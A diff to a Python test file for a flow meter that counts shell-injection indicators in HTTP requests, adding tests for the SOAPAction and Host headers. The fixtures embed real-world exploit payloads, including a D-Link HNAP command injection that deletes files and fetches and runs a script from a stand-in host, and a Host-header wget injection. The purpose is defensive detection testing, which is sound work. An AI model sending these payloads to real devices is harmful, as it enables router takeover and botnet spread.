@@ -1,7 +1,8 @@
 """Injection indicators of HTTP requests (``http_indicators``): the one look the flow meter takes into payloads.
 
-Counted in a request's target (percent-decoded) and in a text body, never in headers (browsers' User-Agent
-and Cookie headers are full of semicolons and parentheses), never in responses or non-HTTP payloads."""
+Counted in a request's target (percent-decoded), in the headers the protocol defines as a URI (SOAPAction,
+Host) and in a text body; never in other headers (browsers' User-Agent and Cookie headers are full of
+semicolons and parentheses), never in responses or non-HTTP payloads."""
 
 from __future__ import annotations
 
@@ -49,6 +50,39 @@ def test_shell_syntax_in_a_text_body_counts_markup_does_not_and_binary_bodies_ar
     soap = b'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: gw\r\n\r\n<?xml version="1.0"?><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g x)</NewStatusURL></u:Upgrade>'
     upload = b"POST /upload HTTP/1.1\r\nHost: drop\r\n\r\n" + bytes(range(256)) * 2
     assert _indicators(gpon, soap, upload) == [3, 1, 0]
+
+
+def test_a_command_in_a_soapaction_header_counts_a_real_operation_does_not():
+    """The D-Link HNAP exploit family (CVE-2015-2051, spread by Mirai variants) carries its command in the
+    SOAPAction header, a URI by definition; real SOAP and UPnP actions carry none, and the quotes enclosing the
+    URI are its syntax."""
+    hnap = (
+        b"POST /HNAP1/ HTTP/1.1\r\nHost: 192.168.0.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n"
+        b'SOAPAction: "http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://203.0.113.9/d && sh d`"\r\n'
+        b"Content-Length: 0\r\n\r\n"
+    )
+    real_hnap = (
+        b"POST /HNAP1/ HTTP/1.1\r\nHost: 192.168.0.1\r\nContent-Type: text/xml; charset=utf-8\r\n"
+        b'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"\r\n\r\n<?xml version="1.0"?><soap:Envelope/>'
+    )
+    upnp = (
+        b"POST /upnp/control/WANIPConn1 HTTP/1.1\r\nHOST: 192.168.1.1:49152\r\n"
+        b'CONTENT-TYPE: text/xml; charset="utf-8"\r\n'
+        b'SOAPACTION: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"\r\n\r\n'
+    )
+    empty = b'POST /ws HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\nSOAPAction: ""\r\n\r\n'
+    assert _indicators(hnap, real_hnap, upnp, empty) == [2, 0, 0, 0]  # the two backquotes
+
+
+def test_a_host_header_admits_no_indicator_other_headers_are_not_read():
+    host = b"GET / HTTP/1.1\r\nHost: cam;wget${IFS}http://203.0.113.9/x\r\n\r\n"
+    referer = b"GET / HTTP/1.1\r\nHost: cam\r\nReferer: http://a/b?q=1;2;3\r\nX-Api: `id`;$(id)\r\n\r\n"
+    assert _indicators(host, referer) == [4, 0]  # ; $ { }
+
+
+def test_bare_line_feeds_end_headers_too():
+    lf = b"POST /cgi HTTP/1.0\nHost: x\nSOAPAction: `reboot`\n\ncmd=`id`;ls"
+    assert _indicators(lf) == [2 + 3]
 
 
 @pytest.mark.parametrize(
